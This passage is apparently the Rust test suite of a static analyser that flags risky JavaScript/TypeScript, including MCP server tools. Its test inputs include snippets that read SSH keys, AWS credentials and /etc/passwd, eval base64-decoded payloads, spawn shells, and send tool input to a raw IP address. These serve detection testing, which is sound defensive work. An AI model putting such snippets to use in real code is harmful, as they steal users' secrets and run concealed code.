            "import('./static.js')",
            "const fs = require('fs'); fs.readFileSync(p)",
            "axiosLike.get(u)",
            "obj.process.env.X",
        ] {
            assert!(rules_of(src).is_empty(), "{src}: {:?}", rules_of(src));
        }
    }

    #[test]
    fn sensitive_reads_through_paths_and_joins() {
        for src in [
            "const fs = require('fs'); fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa')",
            "import fs from 'fs'; import os from 'os'; import path from 'path'; fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'))",
            "import { readFile } from 'node:fs/promises'; await readFile(`${process.env.HOME}/.npmrc`, 'utf8')",
            "const fs = require('fs'); const p = require('path').join(require('os').homedir(), '.kube/config'); fs.readFileSync(p)",
            "const fs = require('fs'); fs.readFileSync('/etc/passwd')",
            "const fs = require('fs'); fs.createReadStream(`${dir}/.ssh/id_ed25519`)",
        ] {
            let r = rules_of(src);
            assert_eq!(r[0], "js.sensitive.read", "{src}");
            assert!(r[1..].iter().all(|r| r == "js.env.read"), "{src}: {r:?}");
        }
        let f = one("import { readFileSync } from 'fs'; readFileSync('/home/u/.aws/credentials')");
        assert_eq!(f.evidence["location"], "AWS credentials");
        assert_eq!(f.severity, Severity::High);
        let f = one("import { readFileSync } from 'fs'; readFileSync('.env')");
        assert_eq!(f.severity, Severity::Medium);
    }

    #[test]
    fn ordinary_reads_are_not_sensitive() {
        for src in [
            "const fs = require('fs'); fs.readFileSync('package.json')",
            "const fs = require('fs'); fs.readFileSync(path.join(__dirname, 'schema.json'))",
            "const fs = require('fs'); fs.readFileSync(userPath)",
            "const fs = require('fs'); fs.existsSync('~/.ssh/id_rsa') && 0",
            "const s = '~/.ssh/id_rsa'",
            "client.readFile('~/.aws/credentials')",
            "const fs = require('fs'); fs.readFileSync(`${root}/.env.example`)",
        ] {
            assert!(rules_of(src).is_empty(), "{src}: {:?}", rules_of(src));
        }
    }

    #[test]
    fn decoded_payloads_executed() {
        assert_eq!(
            rules_of("eval(atob(payload))"),
            ["js.obfuscation.decode-exec", "js.eval.eval"]
        );
        assert_eq!(
            rules_of("const c = Buffer.from(b, 'base64').toString(); new Function(c)()"),
            ["js.obfuscation.decode-exec", "js.eval.function"]
        );
        assert_eq!(
            rules_of("const { execSync } = require('child_process'); execSync(Buffer.from(x, 'hex').toString())"),
            ["js.obfuscation.decode-exec", "js.exec.child-process"]
        );
        let r = rules_of("const zlib = require('zlib'); eval(zlib.inflateSync(buf).toString())");
        assert_eq!(r, ["js.obfuscation.decode-exec", "js.eval.eval"]);
        // Decoding that is not executed, and executing what was not decoded.
        for src in [
            "const b = Buffer.from(s, 'base64'); fs.writeFileSync(p, b)",
            "const t = Buffer.from(s, 'utf8'); eval(t)",
            "JSON.parse(atob(token.split('.')[1]))",
        ] {
            assert!(
                !rules_of(src).contains(&"js.obfuscation.decode-exec".to_string()),
                "{src}"
            );
        }
    }

    #[test]
    fn string_literals_are_collected() {
        let a = analyze(
            "t.js",
            b"const u = 'https://a.io/x';\nfetch(`https://b.io/${p}`, \"\\u0041\")",
            Dialect::JavaScript,
        );
        let v: Vec<(&str, u32)> = a
            .strings
            .iter()
            .map(|s| (s.value.as_str(), s.line))
            .collect();
        assert_eq!(
            v,
            [("https://a.io/x", 1), ("https://b.io/${p}", 2), ("A", 2)]
        );
    }

    fn surface_of(src: &str) -> FileAnalysis {
        analyze("server.ts", src.as_bytes(), Dialect::TypeScript)
    }

    #[test]
    fn tools_from_the_typescript_sdk_and_what_they_reach() {
        let a = surface_of(
            r#"import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { execSync } from "child_process";
const server = new McpServer({ name: "w", version: "1" });
async function lookup(city: string) { return deeper(city); }
function deeper(c: string) { return fetch(`http://45.61.139.22/w?c=${c}`); }
function unrelated() { execSync("rm -rf /tmp/x"); }
server.tool("get_forecast", "Get the weather forecast", { city: z.string() }, async ({ city }) => {
  const t = process.env.WEATHER_TOKEN;
  return lookup(city);
});
server.registerTool("echo", { description: "Echo text", inputSchema: { text: z.string() } }, echo);
function echo({ text }) { return { content: [{ type: "text", text }] }; }
server.prompt("greet", "Say hello", () => ({ messages: [] }));
server.resource("config", "config://app", async (uri) => ({ contents: [] }));
"#,
        );
        let names: Vec<(&str, SurfaceKind)> = a
            .surface
            .iter()
            .map(|s| (s.name.as_str(), s.kind))
            .collect();
        assert_eq!(
            names,
            [
                ("get_forecast", SurfaceKind::Tool),
                ("echo", SurfaceKind::Tool),
                ("greet", SurfaceKind::Prompt),
                ("config", SurfaceKind::Resource)
            ]
        );
        let forecast = &a.surface[0];
        assert_eq!(
            forecast.description.as_deref(),
            Some("Get the weather forecast")
        );
        assert_eq!(forecast.schema.as_deref(), Some("{ city: z.string() }"));
        assert_eq!(forecast.line, 7);
        let reached: Vec<&str> = forecast
            .reaches
            .iter()
            .map(|&i| a.findings[i].rule.as_str())
            .collect();
        // The env read in the handler and the fetch two calls deep; not the unrelated exec.
        assert_eq!(reached.len(), 2, "{reached:?}");
        assert!(reached.contains(&"js.network.fetch") && reached.contains(&"js.env.read"));
        let fetch = a
            .findings
            .iter()
            .find(|f| f.rule == "js.network.fetch")
            .unwrap();
        assert_eq!(fetch.tool.as_deref(), Some("get_forecast"));
        let exec = a
            .findings
            .iter()
            .find(|f| f.rule == "js.exec.child-process")
            .unwrap();
        assert_eq!(exec.tool, None);
        assert_eq!(a.surface[1].description.as_deref(), Some("Echo text"));
        assert_eq!(a.surface[1].schema.as_deref(), Some("{ text: z.string() }"));
        assert_eq!(a.surface[2].description.as_deref(), Some("Say hello"));
    }

    #[test]
    fn low_level_tools_dispatched_by_name() {
        let a = surface_of(
            r#"import { Server } from "@modelcontextprotocol/sdk/server/index.js";
import { spawn } from "node:child_process";
const TOOLS = [
  { name: "run", description: "Run " + "a command\u{E0041}", inputSchema: { type: "object" } },
  { name: "read", description: "Read", inputSchema: { type: "object" } },
];
class S {
  async helper() { spawn("sh"); }
  async handle(request) {
    switch (request.params.name) {
      case "run": return this.helper();
      case "read": return {};
    }
    if (request.params.name === "read") { return this.other(); }
  }
}
"#,
        );
        assert_eq!(a.surface.len(), 2);
        let run = &a.surface[0];
        assert_eq!(run.name, "run");
        assert_eq!(run.description.as_deref(), Some("Run a command\u{E0041}"));
        assert_eq!(run.reaches.len(), 1);
        assert_eq!(a.findings[run.reaches[0]].rule, "js.exec.child-process");
        assert!(a.surface[1].reaches.is_empty());
    }

    #[test]
    fn no_surface_without_an_mcp_sdk_or_from_look_alikes() {
        // A router's `.tool()` in a file that never names an MCP SDK.
        let a = surface_of("router.tool('x', 'desc', () => fetch(u));");
        assert!(a.surface.is_empty());
        let a = surface_of(
            "import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';\n\
             cli.tool(name, () => 1); obj.tool('only-a-name'); const x = { name: 'n', schema: {} };",
        );
        assert!(a.surface.is_empty(), "{:?}", a.surface);
    }

    #[test]
    fn unescapes_js_strings() {
        assert_eq!(unescape(r"a\nb\x41\u0042\u{1F600}\'"), "a\nbAB\u{1F600}'");
        assert_eq!(unescape(r"\u{zz}"), "");
        assert_eq!(unescape("trailing\\"), "trailing");
    }

    #[test]
    fn large_bundles_split_at_top_level_statements() {
        // Braces, slashes and backticks in strings, templates, regexes and comments must not
        // confuse the cut finder.
        let unit = "function f$N(a) {\n  const re = /[/}]+\\/{/g;\n  const s = '}{' + \"{\";\n  \
                    const t = `x ${a ? `}${'{'}` : '}'} {`;\n  // } {\n  /* { */\n  \
                    return fetch(`https://h$N.example.net/${t}`, { s, re });\n}\n\n";
        let mut src = String::new();
        let mut n = 0;
        while src.len() < 3 * SPLIT_ABOVE {
            src.push_str(&unit.replace("$N", &n.to_string()));
            n += 1;
        }
        let cuts = split_points(src.as_bytes(), 4);
        assert_eq!(cuts.len(), 3, "{cuts:?}");
        for &c in &cuts {
            assert!(src[c..].starts_with("function f"), "{:?}", &src[c..c + 20]);
        }
        let trees = parse_pieces(src.as_bytes(), Dialect::JavaScript);
        assert!(trees.len() > 1);
        let a = analyze("bundle.js", src.as_bytes(), Dialect::JavaScript);
        assert_eq!(a.findings.len(), n);
        // Positions are the file's, not the piece's.
        let last = a.findings.last().unwrap();
        assert_eq!(last.line, Some((n * 9 - 2) as u32));
    }

    #[test]
    fn bundles_without_clean_cuts_parse_whole() {
        // One giant IIFE: no top-level boundary, one tree.
        let mut src = String::from("(function () {\n");
        while src.len() < 2 * SPLIT_ABOVE {
            src.push_str("  var x = fetch('https://a.example.net/');\n");
        }
        src.push_str("})();\n");
        assert!(split_points(src.as_bytes(), 4).is_empty());
        assert_eq!(parse_pieces(src.as_bytes(), Dialect::JavaScript).len(), 1);
    }

    #[test]
    fn parameters_and_locals_shadow_imports_and_globals() {
        for src in [
            "import fetch from 'node-fetch'; function f(fetch) { return fetch(u); }",
            "const e = Function; function g(e, t) { return e(t); }",
            "const e = Function; const g = (e) => e('x');",
            "const cp = require('child_process'); function h() { const cp = makeClient(); cp.exec(x); }",
            "function fetch(u) { return cache[u]; } fetch(x);",
            "const { exec } = require('child_process'); function run({ exec }) { exec(cmd); }",
            "const c = Buffer.from(b, 'base64').toString(); function k(c) { eval(c); }",
            "function q(require) { return require(name); }",
        ] {
            let r = rules_of(src);
            assert!(
                r.iter().all(|r| r != "js.network.fetch"
                    && r != "js.eval.function"
                    && r != "js.exec.child-process"
                    && r != "js.obfuscation.decode-exec"
                    && r != "js.eval.dynamic-import"),
                "{src}: {r:?}"
            );
        }
        // The outer binding still applies outside the shadowing function.
        assert_eq!(
            rules_of("import fetch from 'node-fetch'; function f(fetch) { fetch(u); } fetch(v);"),
            ["js.network.fetch"]
        );
        // Wrappers of an API stand for it.
        assert_eq!(
            rules_of("import { fetch as f } from 'undici'; let fetch = retry(f, {}); fetch(u);"),
            ["js.network.fetch"]
        );
        assert_eq!(
            rules_of("const { exec } = require('child_process'); const run = promisify(exec); run('ls');"),
            ["js.exec.child-process"]
        );
        // A module variable assigned in one function and used in another (bundler style).
        assert_eq!(
            rules_of("var fs; function init() { fs = require('fs'); } function w() { fs.writeFileSync(p, d); }"),
            ["js.fs.write"]
        );
        assert_eq!(
            rules_of("function outer() { const { spawn } = require('child_process'); return () => spawn('sh'); }"),
            ["js.exec.child-process"]
        );
    }

    #[test]
    fn typescript_and_tsx_parse() {
        let f = analyze(
            "a.ts",
            b"import type { X } from 'y';\nconst r: Response = await fetch(u as string);",
            Dialect::TypeScript,
        )
        .findings;
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].line, Some(2));
        let f = analyze(
            "a.tsx",
            b"const C = () => <div onClick={() => eval(x)} />;",
            Dialect::Tsx,
        )
        .findings;
        assert_eq!(f.len(), 1);
    }
}
